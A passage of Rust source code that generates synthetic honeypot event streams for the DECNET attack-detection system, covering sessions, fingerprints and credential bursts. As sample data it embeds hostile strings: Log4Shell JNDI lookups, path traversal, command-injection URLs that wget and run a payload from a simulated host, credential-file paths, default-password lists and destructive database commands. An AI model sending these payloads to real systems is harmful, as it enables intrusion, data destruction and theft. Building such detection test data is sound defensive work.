//! The event stream: bus envelopes in simulated time, one at a time.
//!
//! Each call of [`Stream::next`] writes the lines of one event: the rows of late attackers
//! due before it, then the event itself — a new one drawn from [`MIX`], a verbatim replay
//! of a recent one, or (on request) a malformed line. The stream keeps only bounded state:
//! a few open credential bursts, a ring of recent lines to replay, scratch buffers, and
//! per-attacker flags for the late rows. Nothing grows with the number of events.
//!
//! Time starts at 2026-03-01T00:00:00Z and advances by a uniform gap of 0 to 0.5 s per
//! event (four events per simulated second on average), so a million events span about
//! three days and windowed rules see their windows open and expire many times.
//!
//! Anchoring follows DECNET's producers: most events name only the attacker's address,
//! some also its uuid; events that name no address (intel, identity, canary placement)
//! carry uuids of attackers whose rows are already written. An orphan event names an
//! address no row ever claims.

use std::fmt::{self, Write as _};

use super::commands;
use super::fleet::{push_hex, Fleet, Framework, IpText, Style, UuidText, BASE58};
use super::out::{Arr, Obj};
use super::rng::Rng;
use super::tables::{attacker_row, Intel};

/// 2026-03-01T00:00:00Z.
pub const START_MICROS: i64 = 1_772_323_200_000_000;
/// Gaps between events are uniform in `0..2 × MEAN_GAP_US`.
const MEAN_GAP_US: u64 = 250_000;
/// Recent lines kept for replays, and how often a line is kept (one in `RING_SAMPLE`).
const RING_LEN: usize = 64;
const RING_SAMPLE: u64 = 8;
/// Credential bursts open at once.
const MAX_BURSTS: usize = 3;
const DECKIES: u64 = 16;

/// The per-mille rates of the special lines.
#[derive(Clone, Copy, Debug)]
pub struct Rates {
    pub orphan: u32,
    pub replay: u32,
    pub malformed: u32,
}

/// What the stream wrote, besides ordinary events.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Counts {
    pub events: u64,
    pub replays: u64,
    /// Events (replays included) whose address no attacker row claims.
    pub orphans: u64,
    pub malformed: u64,
    /// Attacker rows written among the events.
    pub late_rows: u64,
}

/// Topics of new events.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Topic {
    Session,
    Fingerprinted,
    Observed,
    Email,
    Intel,
    Canary,
    Reuse,
    Formed,
    Merged,
    Unmerged,
    Captured,
    Linked,
    CampaignAssigned,
}

/// Topic weights in ‱, after DECNET's dev corpus (which also carries topics the job does
/// not consume: those are left out, as they would be dead letters).
const MIX: &[(Topic, u32)] = &[
    (Topic::Session, 4540),
    (Topic::Fingerprinted, 1600),
    (Topic::Observed, 900),
    (Topic::Email, 850),
    (Topic::Intel, 600),
    (Topic::Canary, 600),
    (Topic::Reuse, 500),
    (Topic::Formed, 200),
    (Topic::Merged, 100),
    (Topic::Unmerged, 30),
    (Topic::Captured, 30),
    (Topic::Linked, 25),
    (Topic::CampaignAssigned, 25),
];

/// `attacker.fingerprinted` kinds and their weights (‰ of that topic).
const FINGERPRINTS: &[(&str, u32)] = &[
    ("http_request", 225),
    ("auth_attempt", 217),
    ("hassh", 115),
    ("tcpfp", 114),
    ("ipv6_leak", 108),
    ("jarm", 107),
    ("http_fingerprint", 57),
    ("tls_cert", 57),
];

/// Who an event is about.
#[derive(Clone, Copy)]
struct Actor {
    /// `None` for an orphan.
    attacker: Option<u64>,
    ip: IpText,
    style: usize,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum BurstKind {
    /// Many failures over a few accounts.
    Brute,
    /// Many passwords against one account.
    Guess,
    /// One password against many accounts.
    Spray,
}

/// A run of authentication attempts by one attacker, spread over minutes.
struct Burst {
    actor: Actor,
    kind: BurstKind,
    service: &'static str,
    username: &'static str,
    password: &'static str,
    cursor: usize,
    remaining: u32,
    succeeds: bool,
}

const USERNAMES: &[&str] = &[
    "root", "admin", "ubuntu", "pi", "oracle", "test", "user", "postgres", "git", "support", "ftp", "deploy", "guest",
    "ubnt",
];
const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "root",
    "toor",
    "raspberry",
    "ubuntu",
    "oracle",
    "12345678",
    "qwerty",
    "1234",
    "",
    "guest",
    "support",
    "ubnt",
    "changeme",
    "letmein",
    "111111",
    "admin123",
    "default",
];
const AUTH_SERVICES: &[&str] = &["ssh", "telnet", "ftp", "smtp"];
const SESSION_USERS: &[(&str, &str)] =
    &[("root", "0"), ("admin", "1000"), ("ubuntu", "1000"), ("user", "1000"), ("pi", "1000"), ("www-data", "33")];
const PWDS: &[&str] = &["/root", "/tmp", "/home/user", "/var/tmp", "/"];
const COMMON_UAS: &[&str] = &[
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
];

/// Session enrichments of DECNET's producers (the behavioural rules' inputs), with
/// weights in ‰ of sessions; most sessions have none.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Extra {
    None,
    Exfil,
    DbOps,
    Tftp,
    Beacon,
    Path,
    Ransom,
    Llmnr,
    Container,
    C2,
    DbRead,
}

const EXTRAS: &[(Extra, u32)] = &[
    (Extra::None, 870),
    (Extra::Exfil, 13),
    (Extra::DbOps, 12),
    (Extra::Tftp, 12),
    (Extra::Beacon, 12),
    (Extra::Path, 12),
    (Extra::Ransom, 11),
    (Extra::Llmnr, 11),
    (Extra::Container, 10),
    (Extra::C2, 10),
    (Extra::DbRead, 10),
];

const DB_SERVICES: &[&str] = &["postgres", "mongodb", "mysql", "redis", "elasticsearch"];

fn weights<T>(table: &[(T, u32)]) -> Vec<u32> {
    table.iter().map(|(_, w)| *w).collect()
}

/// The stream's state.
pub struct Stream<'f> {
    fleet: &'f Fleet,
    rates: Rates,
    rng: Rng,
    now: i64,
    seq: u64,
    /// Late attackers whose row is not written yet.
    unrevealed: Vec<bool>,
    reveals: Vec<(u64, u32)>,
    next_reveal: usize,
    bursts: Vec<Burst>,
    ring: Vec<(Vec<u8>, bool)>,
    /// Whether the event being written is an orphan's.
    orphan: bool,
    /// Scratch text (commands, URLs) and the current session id.
    text: String,
    sid: String,
    mix: Vec<u32>,
    fingerprints: Vec<u32>,
    extras: Vec<u32>,
    pub counts: Counts,
}

impl<'f> Stream<'f> {
    pub fn new(fleet: &'f Fleet, events: u64, rates: Rates) -> Stream<'f> {
        let reveals = fleet.late_reveals(events);
        let mut unrevealed = vec![false; fleet.attackers as usize];
        for &(_, i) in &reveals {
            unrevealed[i as usize] = true;
        }
        Stream {
            fleet,
            rates,
            rng: Rng::new(fleet.seed ^ 0x6576_656e_7473), // "events"
            now: START_MICROS,
            seq: 0,
            unrevealed,
            reveals,
            next_reveal: 0,
            bursts: Vec::new(),
            ring: Vec::with_capacity(RING_LEN),
            orphan: false,
            text: String::with_capacity(512),
            sid: String::with_capacity(32),
            mix: weights(MIX),
            fingerprints: weights(FINGERPRINTS),
            extras: weights(EXTRAS),
            counts: Counts::default(),
        }
    }

    /// Appends the lines of event number `n` to `out`.
    pub fn next(&mut self, n: u64, out: &mut Vec<u8>) {
        self.now += self.rng.below(2 * MEAN_GAP_US) as i64;
        self.seq = n;
        while let Some(&(at, i)) = self.reveals.get(self.next_reveal) {
            if at > n {
                break;
            }
            attacker_row(self.fleet, u64::from(i), out);
            self.unrevealed[i as usize] = false;
            self.next_reveal += 1;
            self.counts.late_rows += 1;
        }
        let start = out.len();
        self.counts.events += 1;
        self.orphan = false;
        if self.rng.chance(self.rates.malformed) {
            self.malformed(out);
            self.counts.malformed += 1;
        } else if !self.ring.is_empty() && self.rng.chance(self.rates.replay) {
            let (line, orphan) = &self.ring[self.rng.below(self.ring.len() as u64) as usize];
            out.extend_from_slice(line);
            self.orphan = *orphan;
            self.counts.replays += 1;
        } else {
            self.event(out);
            if self.rng.below(RING_SAMPLE) == 0 {
                let line = out[start..].to_vec();
                if self.ring.len() < RING_LEN {
                    self.ring.push((line, self.orphan));
                } else {
                    let slot = self.rng.below(RING_LEN as u64) as usize;
                    self.ring[slot] = (line, self.orphan);
                }
            }
        }
        self.counts.orphans += u64::from(self.orphan);
        out.push(b'\n');
    }

    fn event(&mut self, out: &mut Vec<u8>) {
        let mut topic = MIX[self.rng.weighted(&self.mix)].0;
        let fleet = self.fleet;
        // Topics the fleet cannot produce (no identities, nothing to merge) become sessions.
        let possible = match topic {
            Topic::Formed | Topic::Unmerged | Topic::Linked => fleet.identities > 0,
            Topic::Merged => fleet.identities > 1,
            Topic::CampaignAssigned => fleet.identities > 0 && fleet.campaigns > 0,
            _ => true,
        };
        if !possible {
            topic = Topic::Session;
        }
        match topic {
            Topic::Session => self.session(out),
            Topic::Fingerprinted => self.fingerprinted(out),
            Topic::Observed => self.observed(out),
            Topic::Email => self.email(out),
            Topic::Intel => self.intel(out),
            Topic::Canary => self.canary(out),
            Topic::Reuse => self.reuse(out),
            Topic::Formed => self.formed(out),
            Topic::Merged => self.merged(out),
            Topic::Unmerged => self.unmerged(out),
            Topic::Captured => self.captured(out),
            Topic::Linked => self.linked(out),
            Topic::CampaignAssigned => self.campaign_assigned(out),
        }
    }

    // ---- actors -------------------------------------------------------------------

    /// An attacker drawn with a heavy head: the busiest 1% make about a fifth of the events.
    fn pick_attacker(&mut self) -> u64 {
        let u = self.rng.unit();
        ((u * u * u * self.fleet.attackers as f64) as u64).min(self.fleet.attackers - 1)
    }

    fn actor_of(&self, i: u64) -> Actor {
        Actor { attacker: Some(i), ip: self.fleet.attacker_ip(i), style: self.fleet.style_of(i) }
    }

    /// The actor of an event that names an address (an orphan now and then).
    fn actor(&mut self) -> Actor {
        if self.rng.chance(self.rates.orphan) {
            self.orphan = true;
            let style = self.rng.below(self.fleet.styles.len() as u64) as usize;
            return Actor { attacker: None, ip: Fleet::orphan_ip(&mut self.rng), style };
        }
        let i = self.pick_attacker();
        self.actor_of(i)
    }

    /// An attacker whose row is written: for events that carry its uuid.
    fn known_attacker(&mut self) -> u64 {
        for _ in 0..8 {
            let i = self.pick_attacker();
            if !self.unrevealed[i as usize] {
                return i;
            }
        }
        // Attacker 0 is never late.
        0
    }

    /// The attacker's uuid, for `permille` of the events that could carry it.
    fn uuid_sometimes(&mut self, actor: &Actor, permille: u32) -> Option<UuidText> {
        let i = actor.attacker?;
        (!self.unrevealed[i as usize] && self.rng.chance(permille)).then(|| self.fleet.attacker_uuid(i))
    }

    fn decky(&mut self) -> u64 {
        self.rng.range(1, DECKIES + 1)
    }

    // ---- envelopes ----------------------------------------------------------------

    /// Writes an envelope whose payload `body` fills.
    fn emit(
        &mut self,
        out: &mut Vec<u8>,
        topic: fmt::Arguments<'_>,
        kind: &str,
        body: impl FnOnce(&mut Self, &mut Obj<'_>),
    ) {
        let (a, b) = (self.rng.next_u64(), self.rng.next_u64());
        let mut env = Obj::open(out);
        env.u64("v", 1);
        env.fmt(
            "id",
            format_args!(
                "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
                a >> 32,
                (a >> 16) & 0xffff,
                a & 0xfff,
                0x8000 | ((b >> 48) & 0x3fff),
                b & 0xffff_ffff_ffff
            ),
        );
        env.fmt("topic", topic).str("type", kind).epoch_seconds("ts", self.now);
        let mut payload = env.obj("payload");
        body(self, &mut payload);
        payload.close();
        env.close();
    }

    fn hex_into_text(&mut self, n: usize) {
        push_hex(&mut self.text, &mut self.rng, n);
    }

    // ---- sessions -----------------------------------------------------------------

    fn command_count(&mut self) -> u64 {
        match self.rng.below(100) {
            0..=25 => 0,
            26..=57 => self.rng.range(1, 5),
            58..=79 => self.rng.range(5, 10),
            80..=93 => self.rng.range(10, 20),
            _ => self.rng.range(20, 41),
        }
    }

    fn session(&mut self, out: &mut Vec<u8>) {
        let actor = self.actor();
        let fleet = self.fleet;
        let style = &fleet.styles[actor.style];
        let extra = EXTRAS[self.rng.weighted(&self.extras)].0;
        let service = match extra {
            Extra::DbOps | Extra::DbRead => self.rng.pick(DB_SERVICES),
            _ if self.rng.chance(500) => "ssh",
            _ => "telnet",
        };
        let n = self.command_count();
        let duration = self.rng.range(2_000_000, 30_000_000) + n * self.rng.range(400_000, 3_000_000);
        let with_sid = self.rng.chance(950);
        self.sid.clear();
        if with_sid {
            let _ = write!(self.sid, "s-{:07}-", self.seq);
            push_hex(&mut self.sid, &mut self.rng, 8);
        }
        let uuid = self.uuid_sometimes(&actor, 100);
        let decky = self.decky();
        let user = self.rng.pick(SESSION_USERS);
        self.emit(out, format_args!("attacker.session.ended"), "session.ended", |g, p| {
            p.str("attacker_ip", actor.ip.as_str()).opt_str("attacker_uuid", uuid.as_ref().map(UuidText::as_str));
            let mut commands = p.arr("commands");
            let start = g.now - duration as i64;
            for k in 0..n {
                let ts = start + (duration * (k + 1) / (n + 1)) as i64;
                g.command(&mut commands, style, &actor, k, ts, decky, service, user);
            }
            commands.close();
            p.fmt("decky_id", format_args!("decky-{decky:02}"));
            p.f64("duration_s", duration as f64 / 1e6, 3).time("ended_at", g.now).str("service", service);
            if with_sid {
                p.str("session_id", &g.sid);
            } else {
                p.null("session_id");
            }
            p.null("shard_path");
            g.session_extra(p, extra, style, service);
        });
    }

    /// One command: an object with the producer's fields (most), a short object, or a
    /// bare string, as DECNET's session shards mix them.
    #[allow(clippy::too_many_arguments)]
    fn command(
        &mut self,
        commands: &mut Arr<'_>,
        style: &Style,
        actor: &Actor,
        k: u64,
        ts: i64,
        decky: u64,
        service: &str,
        (user, uid): (&str, &str),
    ) {
        let family = commands::family(style, &mut self.rng);
        commands::write(family, style, &mut self.rng, &mut self.text);
        let shape = self.rng.below(100);
        if shape < 5 {
            commands.str(&self.text);
            return;
        }
        let full = shape >= 24;
        let mut c = commands.obj();
        c.str("command_text", &self.text).fmt("decky", format_args!("decky-{decky:02}"));
        if !self.sid.is_empty() {
            c.fmt("id", format_args!("{}#{k}", self.sid));
        }
        if full {
            c.str("pwd", self.rng.pick(PWDS));
        }
        c.str("service", service);
        if full {
            c.str("src", actor.ip.as_str());
        }
        c.time("ts", ts);
        if full {
            c.str("uid", uid).str("user", user);
        }
        c.close();
    }

    fn session_extra(&mut self, p: &mut Obj<'_>, extra: Extra, style: &Style, service: &str) {
        let rng = &mut self.rng;
        match extra {
            Extra::None => {}
            Extra::Exfil => {
                let bytes = if rng.chance(600) { rng.range(2_200_000, 80_000_000) } else { rng.range(10_000, 900_000) };
                let requests = if rng.chance(500) { rng.range(100, 600) } else { rng.range(3, 60) };
                p.u64("bytes_out", bytes).u64("request_count", requests).str("target_host", &style.dl_host);
            }
            Extra::DbOps => {
                let ops: &[&str] = match service {
                    "postgres" => &["DROP DATABASE shop", "TRUNCATE TABLE users", "SELECT version()"],
                    "mongodb" => &["db.dropDatabase()", "db.users.find().limit(5)", "show dbs"],
                    "mysql" => &["DROP SCHEMA wordpress", "TRUNCATE TABLE wp_users", "SHOW TABLES"],
                    "redis" => &["FLUSHALL", "FLUSHDB", "INFO keyspace"],
                    _ => &["DELETE /_all", "GET /_cat/indices", "DELETE /logs-2026.03"],
                };
                p.str("op_text", rng.pick(ops)).str("target", service);
            }
            Extra::Tftp => {
                p.fmt("source_host", format_args!("10.0.{}.{}", rng.below(8), rng.range(2, 254)));
                let names = ["r1-confg", "core-sw-confg", "startup-config", "running-config.bak", "backup.cfg"];
                let names = [&names[..], &["firmware.bin", "pxelinux.0"]].concat();
                p.str("tftp_filename", rng.pick(&names));
            }
            Extra::Beacon => {
                p.u64("beacon_interval_s", rng.pick(&[5, 30, 60, 300, 900]));
                p.f64("beacon_jitter_pct", rng.pick(&[0.01, 0.05, 0.1, 0.3, 0.5]), 2);
            }
            Extra::Path => {
                let paths = [
                    "/var/www/html/.env",
                    "/home/deploy/.aws/credentials",
                    "/root/.ssh/id_rsa",
                    "/var/run/secrets/kubernetes.io/serviceaccount/token",
                    "/srv/app/.git/config",
                    "/etc/hostname",
                    "/var/www/wp-config.php",
                    "/root/.docker/config.json",
                    "/home/app/.pgpass",
                    "/tmp/notes.txt",
                ];
                p.str("matched_path", rng.pick(&paths));
            }
            Extra::Ransom => {
                let note = ransom_note(rng, style);
                p.str("note_text", &note);
            }
            Extra::Llmnr => {
                p.bool("llmnr_poisoned", rng.chance(800));
                p.str("poisoned_query", rng.pick(&["wpad", "fileserver", "printer01", "intranet"]));
                p.fmt("victim_host", format_args!("ws-{:02}", rng.range(1, 40)));
            }
            Extra::Container => {
                p.str("container_image", rng.pick(&["alpine:3.19", "busybox", "ubuntu:22.04", "docker:dind"]));
                let signals = [
                    "privileged:true",
                    "bind:/:/",
                    "bind:/var/run/docker.sock",
                    "cap:SYS_ADMIN",
                    "image:alpine",
                    "net:host",
                    "pid:host",
                ];
                let mut arr = p.arr("signals");
                let mut used = 0u32;
                for _ in 0..rng.range(1, 4) {
                    let k = rng.below(signals.len() as u64) as u32;
                    if used & (1 << k) == 0 {
                        used |= 1 << k;
                        arr.str(signals[k as usize]);
                    }
                }
                arr.close();
            }
            Extra::C2 => match &style.framework {
                Some(f) => {
                    p.str("hassh", f.hassh.as_deref().unwrap_or(&style.hassh)).str("jarm", &f.jarm);
                    if rng.chance(700) {
                        p.str("matched_framework", &f.name);
                    }
                }
                None => {
                    p.str("hassh", &style.hassh).str("jarm", &style.jarm);
                }
            },
            Extra::DbRead => {
                p.u64("bytes_read", rng.range(10_000, 60_000_000)).u64("rows_read", rng.range(100, 400_000));
            }
        }
    }

    // ---- fingerprints -------------------------------------------------------------

    fn fingerprinted(&mut self, out: &mut Vec<u8>) {
        let kind = FINGERPRINTS[self.rng.weighted(&self.fingerprints)].0;
        match kind {
            "http_request" => self.http_request(out),
            "auth_attempt" => self.auth_attempt(out),
            "ipv6_leak" => self.ipv6_leak(out),
            "http_fingerprint" => self.http_fingerprint(out),
            _ => self.hash_fingerprint(out, kind),
        }
    }

    /// `jarm`, `hassh`, `tcpfp`, `tls_cert`: a hash seen on a port.
    fn hash_fingerprint(&mut self, out: &mut Vec<u8>, kind: &'static str) {
        let actor = self.actor();
        let style = &self.fleet.styles[actor.style];
        let port = self.rng.pick(&[22, 443, 8443, 2222, 8080]);
        self.text.clear();
        let shared = self.rng.chance(500);
        match (kind, &style.framework) {
            ("jarm", Some(f)) if self.rng.chance(400) => self.text.push_str(&f.jarm),
            ("jarm", _) if shared => self.text.push_str(&style.jarm),
            ("jarm", _) => self.hex_into_text(62),
            ("hassh", Some(Framework { hassh: Some(h), .. })) if self.rng.chance(400) => self.text.push_str(h),
            ("hassh", _) if shared => self.text.push_str(&style.hassh),
            ("tls_cert", _) => self.hex_into_text(40),
            _ => self.hex_into_text(32),
        }
        self.emit(out, format_args!("attacker.fingerprinted"), kind, |g, p| {
            p.str("attacker_ip", actor.ip.as_str()).str("hash", &g.text).u64("port", port);
        });
    }

    fn http_request(&mut self, out: &mut Vec<u8>) {
        let actor = self.actor();
        let style = &self.fleet.styles[actor.style];
        self.text.clear();
        let (host, ip, payload) = (&style.dl_host, &style.c2_ip, style.payload);
        let rng = &mut self.rng;
        let t = &mut self.text;
        let _ = match rng.below(100) {
            0..=34 => t.write_str(rng.pick(&[
                "/",
                "/favicon.ico",
                "/robots.txt",
                "/index.html",
                "/login",
                "/sitemap.xml",
                "/static/app.js",
            ])),
            35..=59 => t.write_str(rng.pick(&[
                "/.env",
                "/.git/config",
                "/wp-config.php.bak",
                "/.aws/credentials",
                "/.DS_Store",
                "/server-status",
                "/config.php.bak",
                "/.docker/config.json",
                "/backup.sql",
                "/.ssh/id_rsa",
            ])),
            60..=84 => match rng.below(9) {
                0 => write!(t, "/?q=${{jndi:ldap://{ip}:1389/{:x}}}", rng.below(1 << 24)),
                1 => write!(t, "/api/search?x=%24%7Bjndi%3Aldap%3A%2F%2F{ip}%2Fa%7D"),
                2 => t.write_str("/static/../../../../etc/passwd"),
                3 => t.write_str("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
                4 => t.write_str("/shell.php?cmd=id"),
                5 => t.write_str("/upload/x.php?exec=whoami"),
                6 => write!(t, "/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{host}/{payload};sh+{payload}"),
                7 => t.write_str("/index.php?s=/index/think/app/invokefunction&function=call_user_func_array"),
                _ => write!(t, "/device.rsp?opt=sys&cmd=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F{host}%2F{payload}"),
            },
            85..=92 => t.write_str(rng.pick(&[
                "/api/v1/namespaces/kube-system/secrets",
                "/api/v1/secrets",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                "/actuator/env",
            ])),
            _ => t.write_str(rng.pick(&[
                "/wp-login.php",
                "/phpmyadmin/",
                "/manager/html",
                "/owa/auth/logon.aspx",
                "/boaform/admin/formLogin",
            ])),
        };
        let path_len = self.text.find('?').unwrap_or(self.text.len());
        let method = self.rng.pick(&["GET", "GET", "GET", "GET", "POST", "HEAD"]);
        let ua = if self.rng.chance(400) { style.scanner_ua } else { self.rng.pick(COMMON_UAS) };
        let decky = self.decky();
        let session = self.rng.chance(500).then(|| self.rng.next_u64() & 0xffff_ffff_ffff);
        self.emit(out, format_args!("attacker.fingerprinted"), "http_request", |g, p| {
            p.str("attacker_ip", actor.ip.as_str());
            let mut headers = p.obj("headers");
            headers.fmt("Host", format_args!("decky-{decky:02}.corp.local"));
            headers.close();
            p.str("method", method).str("raw_url", &g.text).str("request_path", &g.text[..path_len]);
            if let Some(s) = session {
                p.fmt("session_id", format_args!("h-{s:012x}"));
            }
            p.str("user_agent", ua);
        });
    }

    fn ipv6_leak(&mut self, out: &mut Vec<u8>) {
        let actor = self.actor();
        let rng = &mut self.rng;
        let link_local = rng.chance(850);
        let (a, b) = (rng.next_u64(), rng.below(4));
        let iid = rng.pick(&["eui64", "stable_privacy", "random", "unknown"]);
        let oui = if iid == "eui64" { rng.pick(&["08:00:27", "00:50:56", "52:54:00"]) } else { "" };
        let vector = rng.pick(&["passive_ndp", "active_echo", "mdns"]);
        let iface = rng.pick(&["eth0", "ens3", "wlan0"]);
        self.emit(out, format_args!("attacker.fingerprinted"), "ipv6_leak", |g, p| {
            let groups = (a >> 48, (a >> 32) & 0xffff, (a >> 16) & 0xffff, a & 0xffff);
            if link_local {
                p.fmt("addr", format_args!("fe80::{:x}:{:x}:{:x}:{:x}", groups.0, groups.1, groups.2, groups.3));
            } else {
                p.fmt("addr", format_args!("2001:db8:{b:x}::{:x}:{:x}", groups.2, groups.3));
            }
            p.str("attacker_ip", actor.ip.as_str()).str("iid_kind", iid).str("mac_oui", oui);
            p.time("observed_at", g.now).str("on_iface", iface).str("vector", vector);
        });
    }

    fn http_fingerprint(&mut self, out: &mut Vec<u8>) {
        let actor = self.actor();
        let (a, b) = (self.rng.next_u64(), self.rng.next_u64());
        let protocol = self.rng.pick(&["h1", "h2"]);
        self.emit(out, format_args!("attacker.fingerprinted"), "http_fingerprint", |g, p| {
            p.str("attacker_ip", actor.ip.as_str()).str("client_ip", actor.ip.as_str());
            p.str("fingerprint_type", "ja4h");
            p.fmt("ja4h", format_args!("ge11nn05enus_{:012x}_{:012x}", a >> 16, b >> 16));
            p.str("protocol", protocol).time("seen_at", g.now);
        });
    }

    // ---- credentials --------------------------------------------------------------

    fn new_burst(&mut self) -> Burst {
        let actor = self.actor();
        let kind = [BurstKind::Brute, BurstKind::Brute, BurstKind::Guess, BurstKind::Spray][self.rng.below(4) as usize];
        let style = &self.fleet.styles[actor.style];
        let remaining = match kind {
            BurstKind::Brute => self.rng.range(10, 41),
            BurstKind::Guess => self.rng.range(8, 26),
            BurstKind::Spray => self.rng.range(6, 17),
        } as u32;
        Burst {
            actor,
            kind,
            service: self.rng.pick(AUTH_SERVICES),
            username: self.rng.pick(&USERNAMES[..6]),
            password: if self.rng.chance(500) { self.rng.pick(&style.passwords) } else { self.rng.pick(PASSWORDS) },
            cursor: self.rng.below(USERNAMES.len() as u64) as usize,
            remaining,
            succeeds: self.rng.chance(300),
        }
    }

    /// An authentication attempt: mostly one of a few open bursts (judged in the stream's
    /// windows), else a single attempt with the producer's pre-computed counts.
    fn auth_attempt(&mut self, out: &mut Vec<u8>) {
        if self.rng.chance(250) {
            return self.auth_precomputed(out);
        }
        if self.bursts.len() < MAX_BURSTS && (self.bursts.is_empty() || self.rng.chance(120)) {
            let burst = self.new_burst();
            self.bursts.push(burst);
        }
        let k = self.rng.below(self.bursts.len() as u64) as usize;
        let fleet = self.fleet;
        let b = &mut self.bursts[k];
        b.remaining -= 1;
        b.cursor += 1;
        let style = &fleet.styles[b.actor.style];
        let (username, password) = match b.kind {
            BurstKind::Brute => {
                let password =
                    if self.rng.chance(300) { self.rng.pick(&style.passwords) } else { self.rng.pick(PASSWORDS) };
                (if self.rng.chance(700) { b.username } else { self.rng.pick(USERNAMES) }, password)
            }
            BurstKind::Guess => (b.username, PASSWORDS[b.cursor % PASSWORDS.len()]),
            BurstKind::Spray => (USERNAMES[b.cursor % USERNAMES.len()], b.password),
        };
        let last = b.remaining == 0;
        let result = if last && b.succeeds { "success" } else { "fail" };
        let (actor, service) = (b.actor, b.service);
        if last {
            self.bursts.swap_remove(k);
        }
        self.orphan = actor.attacker.is_none();
        self.emit(out, format_args!("attacker.fingerprinted"), "auth_attempt", |_, p| {
            p.str("attacker_ip", actor.ip.as_str()).str("password", password).str("result", result);
            p.str("service", service).str("username", username);
        });
    }

    fn auth_precomputed(&mut self, out: &mut Vec<u8>) {
        let actor = self.actor();
        let rng = &mut self.rng;
        let fail_count = rng.pick(&[1, 3, 4, 5, 12, 250]);
        let password_count = rng.pick(&[1, 4, 5, 30]);
        let prior_brute = rng.chance(530);
        let result = if rng.chance(250) { "success" } else { "fail" };
        let service = rng.pick(AUTH_SERVICES);
        let username = rng.pick(&USERNAMES[..5]);
        let password = rng.pick(PASSWORDS);
        let session = rng.chance(600).then(|| rng.next_u64() & 0xffff_ffff_ffff);
        self.emit(out, format_args!("attacker.fingerprinted"), "auth_attempt", |_, p| {
            p.str("attacker_ip", actor.ip.as_str()).u64("fail_count", fail_count).str("password", password);
            p.u64("password_count", password_count).bool("prior_brute", prior_brute).str("result", result);
            p.str("service", service);
            if let Some(s) = session {
                p.fmt("session_id", format_args!("a-{s:012x}"));
            }
            p.str("username", username);
        });
    }

    fn reuse(&mut self, out: &mut Vec<u8>) {
        let secret_kind = self.rng.pick(&["password", "ssh_key"]);
        if self.rng.chance(500) {
            let actor = self.actor();
            let hashed = self.rng.chance(900);
            let (a, b) = (self.rng.next_u64(), self.rng.next_u64());
            let (c, d) = (self.rng.next_u64(), self.rng.next_u64());
            let id = self.rng.next_u64() & 0xffff_ffff_ffff;
            let reuse_count = self.rng.range(1, 10);
            self.emit(out, format_args!("credential.reuse.detected"), "reuse.detected", |_, p| {
                p.str("attacker_ip", actor.ip.as_str()).null("attacker_uuid");
                if hashed {
                    p.fmt("credential_hash", format_args!("{a:016x}{b:016x}{c:016x}{d:016x}"));
                } else {
                    p.str("credential_hash", "");
                }
                p.fmt("credential_id", format_args!("cr-{id:012x}"));
                p.u64("reuse_count", reuse_count).str("secret_kind", secret_kind);
            });
            return;
        }
        // The correlator's shape: the attackers of one campaign that used one secret.
        let first = self.known_attacker();
        let mut named = [first; 4];
        let mut count = 1;
        for _ in 0..self.rng.range(1, 4) {
            let partner = self.fleet.partner(first, &mut self.rng);
            if !named[..count].contains(&partner) && !self.unrevealed[partner as usize] {
                named[count] = partner;
                count += 1;
            }
        }
        let named = &named[..count];
        let deckies = [self.decky(), self.decky()];
        let id = self.rng.next_u64() & 0xffff_ffff_ffff;
        let targets = self.rng.range(2, 10);
        let fleet = self.fleet;
        self.emit(out, format_args!("credential.reuse.detected"), "reuse.detected", |_, p| {
            p.strs(
                "attacker_ips",
                named.iter().map(|&i| fleet.attacker_ip(i)).collect::<Vec<_>>().iter().map(IpText::as_str),
            );
            let uuids: Vec<UuidText> = named.iter().map(|&i| fleet.attacker_uuid(i)).collect();
            p.strs("attacker_uuids", uuids.iter().map(UuidText::as_str));
            let mut arr = p.arr("deckies");
            for d in deckies {
                arr.fmt(format_args!("decky-{d:02}"));
            }
            arr.close();
            p.fmt("id", format_args!("cr-{id:012x}")).str("secret_kind", secret_kind);
            p.strs("services", ["ssh"]).u64("target_count", targets);
        });
    }

    fn captured(&mut self, out: &mut Vec<u8>) {
        let i = self.known_attacker();
        let (fleet, uuid) = (self.fleet, self.fleet.attacker_uuid(i));
        let id = self.rng.next_u64() & 0xffff_ffff_ffff;
        let (service, username) = (self.rng.pick(AUTH_SERVICES), self.rng.pick(USERNAMES));
        self.emit(out, format_args!("credential.captured"), "captured", |_, p| {
            p.str("attacker_ip", fleet.attacker_ip(i).as_str()).str("attacker_uuid", uuid.as_str());
            p.fmt("credential_id", format_args!("cr-{id:012x}")).str("secret_kind", "password");
            p.str("service", service).str("username", username);
        });
    }

    // ---- other topics -------------------------------------------------------------

    fn observed(&mut self, out: &mut Vec<u8>) {
        let actor = self.actor();
        let decky = self.decky();
        let event_type = self.rng.pick(&["request", "connection", "login_attempt"]);
        let service = self.rng.pick(&["ssh", "telnet", "smtp", "redis", "http"]);
        self.emit(out, format_args!("attacker.observed"), "observed", |g, p| {
            p.str("attacker_ip", actor.ip.as_str()).fmt("decky", format_args!("decky-{decky:02}"));
            p.str("event_type", event_type).time("first_seen", g.now).str("service", service);
        });
    }

    fn intel(&mut self, out: &mut Vec<u8>) {
        let i = self.known_attacker();
        let version = self.rng.below(3);
        let fleet = self.fleet;
        let intel = Intel::of(fleet, i, version);
        self.emit(out, format_args!("attacker.intel.enriched"), "intel.enriched", |_, p| {
            intel.write_abuseipdb(p);
            p.str("attacker_ip", fleet.attacker_ip(i).as_str()).str("attacker_uuid", fleet.attacker_uuid(i).as_str());
            intel.write_feodo(p);
            intel.write_greynoise(p);
